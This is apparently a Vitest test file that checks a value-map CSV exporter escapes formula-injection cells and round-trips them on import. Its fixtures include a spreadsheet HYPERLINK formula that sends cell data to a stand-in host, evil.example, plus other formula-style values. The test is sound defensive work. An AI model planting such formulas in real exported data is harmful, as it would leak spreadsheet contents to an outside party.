import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { formatValueMapCsv, parseValueMapCsv } from "./parse-value-map-csv";

const FLOW_ID = "00000000-0000-4000-8000-000000000001";
const KINDS = [
  { kind: "gl-account", targetLabel: "Acumatica GL account" },
  { kind: "customer", targetLabel: "Acumatica customer" },
];

// Labels come from vendor data (a Zuora account name is whatever the customer typed).
const hostile = [
  { kind: "customer", sourceKey: "A-1", targetValue: "C1", sourceLabel: '=HYPERLINK("http://evil.example/?d="&A1,"Click")', targetLabel: "+1 Corp" },
  { kind: "customer", sourceKey: "-5", targetValue: "@SUM(1+1)", sourceLabel: "\tTabbed", targetLabel: "\rReturned" },
  { kind: "gl-account", sourceKey: "Plain", targetValue: "40100", sourceLabel: null, targetLabel: "a=b stays" },
];

describe("value map CSV export", () => {
  it("writes no cell a spreadsheet would run as a formula", () => {
    const csv = formatValueMapCsv(hostile);
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click")`);
    expect(cells).toEqual(expect.arrayContaining(["'+1 Corp", "'-5", "'@SUM(1+1)", "a=b stays", "A-1"]));
  });

  it("imports an exported file to the same values", () => {
    const { rows, errors } = parseValueMapCsv({ csv: formatValueMapCsv(hostile), flowId: FLOW_ID, kinds: KINDS });
    expect(errors).toEqual([]);
    expect(rows.map((r) => [r.kind, r.sourceKey, r.targetValue, r.sourceLabel ?? null, r.targetLabel ?? null])).toEqual([
      // labels are trimmed on import, as when they are typed
      ["customer", "A-1", "C1", '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1 Corp"],
      ["customer", "-5", "@SUM(1+1)", "Tabbed", "Returned"],
      ["gl-account", "Plain", "40100", null, "a=b stays"],
    ]);
  });
});
